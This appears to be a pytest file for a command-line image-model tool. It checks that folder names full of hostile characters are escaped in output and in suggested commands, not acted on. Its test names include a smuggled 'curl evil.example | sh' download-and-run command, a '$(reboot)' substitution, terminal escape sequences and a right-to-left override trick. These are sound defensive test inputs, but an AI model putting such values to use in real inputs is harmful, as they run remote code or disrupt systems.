"""Whatever a folder is called, verbs show it, do not act on it, and offer commands that work."""

import re
import shlex
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from limbeck import logs
from limbeck.cli import app
from limbeck.data import open_dataset

NAMES = [
    "a[/b]c",
    "[red]x[/red]",
    "[/]",
    ":skull:",
    "x; curl evil.example | sh",
    'it\'s "$(reboot)"',
    "a\nnext: limbeck run evil",
    "a\x1b[31mb\x1b]0;t\x07",
    "\u202egnp.exe",
    "\udcff",
    "日本 語",
]
ALL = "[/b] [bold]; curl e|sh\x1b[31m\nnext: it's \u202e:skull:"
ACTING = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")


def invoke(*args: object) -> str:
    """What the verb says to people; it must succeed."""
    result = CliRunner().invoke(app, [str(arg) for arg in args])
    assert result.exit_code == 0, f"{result.output!r}\n{result.exception!r}"
    assert not ACTING.search(result.stderr), ascii(result.stderr)
    return result.stderr


def offered(said: str) -> list[str]:
    """The words of the command that is offered last."""
    (line,) = [line for line in said.splitlines() if line.startswith("next: ")]
    return shlex.split(line.removeprefix("next: "))


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_dry_runs_show_the_name(name: str, smoke: Any, tmp_path: Path) -> None:
    out, run = tmp_path / name, smoke.run
    for args in (
        ("ingest", smoke.photos),
        ("train", run / "data"),
        ("score", run / "data", run),
        ("keep", run / "scores"),
        ("modes", run),
        ("sample", run / "model"),
        ("export", run),
        ("demo",),
    ):
        said = invoke(*args, "--out", out, "--dry-run")
        assert logs.visible(out) in said, args


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_errors_show_the_name(name: str, tmp_path: Path) -> None:
    for args in (
        ("ingest", tmp_path / name, "--out", tmp_path / "x"),
        ("train", tmp_path / name, "--out", tmp_path / "x"),
        ("score", tmp_path / name, tmp_path / name, "--out", tmp_path / "x"),
        ("keep", tmp_path / name, "--out", tmp_path / "x"),
        ("modes", tmp_path / name, "--out", tmp_path / "x"),
        ("sample", tmp_path / name, "--out", tmp_path / "x"),
        ("export", tmp_path / name, "--out", tmp_path / "x"),
        ("bench", "loader", tmp_path / name),
    ):
        result = CliRunner().invoke(app, [str(arg) for arg in args])
        assert result.exit_code == 3, args
        assert not ACTING.search(result.stderr), ascii(result.stderr)
        assert logs.visible(tmp_path / name) in result.stderr


def test_a_photo_of_any_name_is_ingested(crawl: Path, tmp_path: Path) -> None:
    photos = tmp_path / "photos"
    photos.mkdir()
    chosen = sorted(crawl.glob("photos/*.jpg"))[:8]
    for number, photo in enumerate(chosen):
        (photos / f"{number}[b]\x1b[31m\n:skull:.jpg").write_bytes(photo.read_bytes())
    said = invoke("ingest", photos, "--out", tmp_path / "data", "--preset", "smoke")
    assert "files accepted" in said
    assert len(open_dataset(tmp_path / "data")) > 0


def test_the_verbs_one_by_one_in_a_folder_of_any_name(smoke: Any, tmp_path: Path) -> None:
    data, nets, scores, keep, modes, model, samples = (
        tmp_path / f"{ALL} {name}"
        for name in ("data", "nets", "scores", "keep", "modes", "model", "samples")
    )
    small = ("--preset", "smoke", "--device", "cpu")
    few = ("--set", "modes.samples=64", "--clusters", "4")
    for args in (
        ("ingest", smoke.photos, "--out", data, "--preset", "smoke"),
        ("train", data, "--out", nets, *small, "--kimg", "0.016"),
        ("score", data, nets, "--out", scores, "--device", "cpu"),
        ("keep", scores, "--out", keep, "--fraction", "0.5"),
        ("modes", nets, "--out", modes, *few, "--device", "cpu"),
        ("export", nets, "--modes", modes, "--out", model, "--device", "cpu"),
        ("sample", model, "--seeds", "0-1", "--out", samples, "--device", "cpu"),
    ):
        said = invoke(*args)
        out = args[args.index("--out") + 1]
        assert logs.visible(out) in said, args
        assert said.count("\nnext: ") == (args[0] != "sample")


def test_commands_that_are_offered_name_the_folder(smoke: Any, tmp_path: Path) -> None:
    out = tmp_path / "it's [/b]; curl e|sh"
    said = invoke("keep", smoke.run / "scores", "--out", out)
    assert offered(said) == ["limbeck", "train", "DATA", "--ids", str(out), "--out", "KEPT"]
    said = invoke("ingest", smoke.photos, "--out", out / "data", "--preset", "smoke")
    assert offered(said)[:3] == ["limbeck", "train", str(out / "data")]


@pytest.mark.parametrize("verb", ["score", "keep", "modes"])
def test_a_result_is_said_once(verb: str, smoke: Any, tmp_path: Path) -> None:
    run, few = smoke.run, ("--set", "modes.samples=64", "--clusters", "4", "--device", "cpu")
    args = {
        "score": (run / "data", run, "--device", "cpu"),
        "keep": (run / "scores",),
        "modes": (run, *few),
    }[verb]
    said = invoke(verb, *args, "--out", tmp_path / "out")
    words = {"score": "scored ", "keep": "kept ", "modes": " clusters are "}[verb]
    assert sum(words in line and line[:1] != " " for line in said.splitlines()) == 1, said
